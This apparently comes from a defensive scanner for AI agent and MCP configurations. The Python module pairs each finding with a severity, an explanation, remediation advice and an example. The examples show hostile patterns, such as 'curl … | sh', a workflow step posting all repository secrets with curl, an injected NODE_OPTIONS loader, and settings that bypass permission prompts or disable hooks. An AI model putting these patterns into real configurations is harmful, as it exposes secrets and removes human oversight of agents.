"""What the findings about configurations mean. Pure."""

from functools import partial

from panguard.findings import phrase
from panguard.scan.explanation import Explanation
from panguard.terms import Category, Check, Lane, Severity

_RUNS = ("ASI05", "AST02", "LLM03:2025", "MCP05:2025", "AML.T0081", "CWE-829")
_SUPPLY = ("ASI04", "AST02", "LLM03:2025", "MCP04:2025", "AML.T0010.005", "CWE-494")

_explanation = partial(
    Explanation,
    check=Check.TOOL_POISONING,
    category=Category.SKILL_COMPROMISE,
    lane=Lane.ALERT,
    references=_RUNS,
)
HARM = _explanation(
    "config-runs-harm",
    Severity.CRITICAL,
    phrase("A configuration runs a harmful command by itself"),
    phrase(
        "It runs without a question, and it fetches or hides what it runs, or opens the machine to others."
    ),
    phrase("Remove the entry. If it has run already, disconnect the machine and change your passwords."),
    lane=Lane.BLOCK,
    example='"command": "curl … | sh"',
    innocent=phrase("Commands that run a script of the package, or a formatter or test, are not flagged so."),
)
SENDS = _explanation(
    "config-sends-data",
    Severity.HIGH,
    phrase("A configuration sends data away by itself"),
    phrase("The command runs at every start or tool call and sends data to a server each time."),
    phrase("Remove the entry unless you know the server and what is sent."),
    check=Check.SECRET_EXFILTRATION,
    category=Category.CONTEXT_EXFILTRATION,
    lane=Lane.BLOCK,
    example='"command": "curl", "args": ["-X", "POST", "https://…"]',
    innocent=phrase("Notifications to this machine are not flagged."),
    references=("ASI02", "AST01", "LLM02:2025", "MCP10:2025", "AML.T0086", "CWE-200"),
)
STARTUP = _explanation(
    "config-writes-startup",
    Severity.HIGH,
    phrase("A configuration plants something that stays"),
    phrase(
        "The command changes start-up files, timers or the memory of the agent, so its effect outlives it."
    ),
    phrase("Remove the entry, and undo what it wrote."),
    lane=Lane.BLOCK,
    example='"command": "echo … >> ~/.zshrc"',
    references=("ASI06", "AST01", "LLM03:2025", "AML.T0081", "CWE-829"),
)
NETWORK = _explanation(
    "config-uses-network",
    Severity.MEDIUM,
    phrase("A configuration runs a command that uses the network by itself"),
    phrase("What it fetches can differ at each run from what was reviewed."),
    phrase("Read the command, and replace the download by a file of the package."),
    example='"command": "git pull && make"',
)
AUTOMATIC = _explanation(
    "config-runs-by-itself",
    Severity.LOW,
    phrase("A configuration runs a command by itself"),
    phrase("Hooks and tasks run without a question each time; nobody reads them after they were added."),
    phrase("Read the command and what it calls before you trust the folder."),
    example='"command": "./format.sh"',
)
UNPINNED = _explanation(
    "config-server-unpinned",
    Severity.LOW,
    phrase("A configuration runs whatever version of a package is newest"),
    phrase("The next version of the package can do anything, and nobody is asked before it runs."),
    phrase("Add the version to the name of the package, for example `name@1.2.3`."),
    example='"command": "npx", "args": ["-y", "some-server"]',
    innocent=phrase("Packages with a version are not flagged."),
    references=_SUPPLY,
)
NOT_A_SERVER = _explanation(
    "config-server-is-shell",
    Severity.MEDIUM,
    phrase("An MCP server is a shell command rather than a program"),
    phrase("A line of shell code in the place of a server can do anything and cannot be kept to a version."),
    phrase("Point the entry at the program of the server itself."),
    example='"command": "bash", "args": ["-c", "…"]',
)
PLAIN_HTTP = _explanation(
    "config-server-http",
    Severity.MEDIUM,
    phrase("An MCP server is reached without encryption"),
    phrase("Anyone on the way can read what the agent sends and change what it gets."),
    phrase("Use an address that starts with https."),
    references=("ASI04", "AST06", "MCP07:2025", "CWE-319"),
    example='"url": "http://tools.example.com/mcp"',
    innocent=phrase("Servers on this machine are not flagged."),
)
REDIRECT = _explanation(
    "config-model-redirected",
    Severity.HIGH,
    phrase("A configuration sends the agent's requests to another server"),
    phrase("Whoever runs that server reads every conversation and key, and can answer in the model's name."),
    phrase("Remove the setting unless the server is your own."),
    check=Check.SECRET_EXFILTRATION,
    category=Category.CONTEXT_EXFILTRATION,
    lane=Lane.BLOCK,
    example='"ANTHROPIC_BASE_URL": "https://relay.example.com"',
    innocent=phrase("Addresses on this machine, and those of the providers themselves, are not flagged."),
    references=("ASI03", "AST01", "LLM02:2025", "AML.T0081", "CWE-200"),
)
PROXIED = _explanation(
    "config-proxied",
    Severity.HIGH,
    phrase("A configuration sends all requests through somebody else's server"),
    phrase(
        "A proxy sees where each request goes; where certificates are not checked, or are its own, it also"
        " reads and changes what is in them."
    ),
    phrase("Remove the setting unless the server is your own."),
    check=Check.SECRET_EXFILTRATION,
    category=Category.CONTEXT_EXFILTRATION,
    example='"HTTPS_PROXY": "http://203.0.113.7:8080"',
    innocent=phrase("Proxies on this machine or in a private network are not flagged."),
    references=("ASI03", "AST01", "LLM02:2025", "AML.T0081", "CWE-319"),
)
REPORTED = _explanation(
    "config-reports-talk",
    Severity.CRITICAL,
    phrase("A configuration has what you write reported to a server"),
    phrase("Your own words, and what tools are given, go to that server with every step of the agent."),
    phrase("Remove the setting unless the server is your own."),
    check=Check.SECRET_EXFILTRATION,
    category=Category.CONTEXT_EXFILTRATION,
    lane=Lane.BLOCK,
    example='"OTEL_LOG_USER_PROMPTS": "1"',
    innocent=phrase("Figures on use without what was said, and servers on this machine, are not flagged."),
    references=("ASI03", "AST01", "LLM02:2025", "AML.T0081", "CWE-200"),
)
LOADS = _explanation(
    "config-loads-code",
    Severity.HIGH,
    phrase("A configuration loads code into every program that is started"),
    phrase(
        "The variable has a file run first in each shell, interpreter or program, whatever was asked for."
    ),
    phrase("Remove the variable. If it was in use, look at the file that it names."),
    example='"NODE_OPTIONS": "--require /tmp/.init.js"',
    innocent=phrase("Packages by name, memory limits and libraries of the system are not flagged."),
    references=("ASI05", "AST01", "LLM03:2025", "AML.T0081", "CWE-426"),
)
WORKFLOW_LEAKS = _explanation(
    "config-workflow-leaks",
    Severity.CRITICAL,
    phrase("A workflow sends secrets of the repository to a server they do not belong to"),
    phrase("The secrets open the accounts that the project publishes with; only their issuer needs them."),
    phrase("Remove the step. If it has run, replace every secret of the repository."),
    check=Check.SECRET_EXFILTRATION,
    category=Category.CONTEXT_EXFILTRATION,
    lane=Lane.BLOCK,
    example="run: curl -d '${{ toJSON(secrets) }}' https://…",
    innocent=phrase("A secret that is used at the service it belongs to is not flagged."),
    references=("ASI03", "AST01", "LLM02:2025", "AML.T0086", "CWE-200", "CWE-522"),
)
WORKFLOW_OPEN = _explanation(
    "config-workflow-open",
    Severity.HIGH,
    phrase("A workflow runs the code of strangers with the rights of the repository"),
    phrase("Whoever proposes a change decides what is run, and it can read the secrets of the project."),
    phrase("Use `pull_request`, or do not check the proposed code out."),
    example="on: pull_request_target … ref: ${{ github.event.pull_request.head.sha }}",
    innocent=phrase("Workflows that only label or comment are not flagged."),
    references=("ASI05", "AST02", "LLM03:2025", "CWE-829"),
)
WORKFLOW_INJECTED = _explanation(
    "config-workflow-injected",
    Severity.HIGH,
    phrase("A workflow on a machine of its own puts what strangers write into a command"),
    phrase(
        "Whoever opens an issue or proposes a change decides what the shell runs; a runner of one's own "
        "keeps what was run there, and stands in one's own network."
    ),
    phrase("Give the text to the command by `env`, and name the variable there."),
    lane=Lane.BLOCK,
    example="runs-on: self-hosted … run: echo ${{ github.event.issue.title }}",
    innocent=phrase("Texts that are handed over by `env`, and numbers and names of users, are not flagged."),
    references=("ASI05", "AST02", "LLM03:2025", "CWE-78"),
)
PACKAGE_BY_ADDRESS = _explanation(
    "config-package-by-address",
    Severity.HIGH,
    phrase("A configuration runs a package from somebody's address, past any registry"),
    phrase("What lies there can be another thing at each start, and nobody keeps what it was."),
    phrase("Take the package from a registry or a repository, with a fixed version."),
    lane=Lane.BLOCK,
    example='"command": "npx", "args": ["-y", "https://…/server.tgz"]',
    innocent=phrase("Registries, well-known forges and servers of your own network are not flagged."),
    references=_SUPPLY,
)
PERMISSIONS = _explanation(
    "config-permissions-open",
    Severity.HIGH,
    phrase("A configuration lets the agent do everything without asking"),
    phrase("The question before a dangerous action is what stops an injected instruction."),
    phrase("Remove the setting, and allow single commands instead."),
    check=Check.PERMISSION_SCOPE,
    category=Category.PRIVILEGE_ESCALATION,
    example='"defaultMode": "bypassPermissions"',
    references=("ASI03", "AST03", "AST06", "LLM06:2025", "AML.T0081", "CWE-732"),
)
HOOKS_OFF = _explanation(
    "config-hooks-off",
    Severity.HIGH,
    phrase("A configuration switches off the hooks of the agent, and with them what watches over it"),
    phrase("Hooks are how a guard is asked before each step; where they are off, nothing is checked."),
    phrase("Remove the setting, and see that your guard works: pga guard doctor"),
    check=Check.PERMISSION_SCOPE,
    category=Category.PRIVILEGE_ESCALATION,
    example='"disableAllHooks": true',
    references=("ASI03", "AST03", "CWE-693"),
)
SECRET = _explanation(
    "config-secret",
    Severity.MEDIUM,
    phrase("A configuration holds a key in plain text"),
    phrase("Everyone who can read the file can use the key, and agents read such files."),
    phrase("Revoke the key, and refer to an environment variable instead: `${NAME}`."),
    check=Check.SECRET_EXFILTRATION,
    category=Category.CONTEXT_EXFILTRATION,
    references=("ASI03", "LLM02:2025", "MCP01:2025", "AML.T0083", "CWE-798"),
    innocent=phrase("Placeholders and references to environment variables are not flagged."),
)
UNREADABLE = _explanation(
    "config-unreadable",
    Severity.LOW,
    phrase("A configuration cannot be read"),
    phrase("An agent may read it all the same, and run what it says."),
    phrase("Correct the file, or remove it."),
    check=Check.MANIFEST_INTEGRITY,
    references=("AST04", "AST08"),
)

EXPLANATIONS = (
    HARM,
    SENDS,
    STARTUP,
    NETWORK,
    AUTOMATIC,
    UNPINNED,
    NOT_A_SERVER,
    PLAIN_HTTP,
    REDIRECT,
    PROXIED,
    REPORTED,
    LOADS,
    WORKFLOW_LEAKS,
    WORKFLOW_OPEN,
    WORKFLOW_INJECTED,
    PACKAGE_BY_ADDRESS,
    PERMISSIONS,
    HOOKS_OFF,
    SECRET,
    UNREADABLE,
)
